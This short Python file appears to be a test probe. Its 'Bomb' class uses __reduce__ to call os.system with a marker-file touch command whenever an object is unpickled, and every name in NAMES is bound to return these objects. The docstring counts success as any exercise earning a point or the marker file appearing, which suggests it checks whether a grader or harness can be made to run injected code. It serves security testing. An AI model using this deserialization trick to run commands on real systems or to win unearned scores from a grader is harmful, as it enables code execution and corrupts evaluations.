"""Returns objects that run code where they are unpickled or copied.

Succeeds if any exercise earns a point, or a file with the mark exists afterwards.
"""

import os


class Bomb:
    def __reduce__(self):
        return (os.system, (f"touch /tmp/{MARK}-pickle",))

    __deepcopy__ = __copy__ = None


for name in NAMES:
    globals()[name] = lambda *args, **kwargs: Bomb()
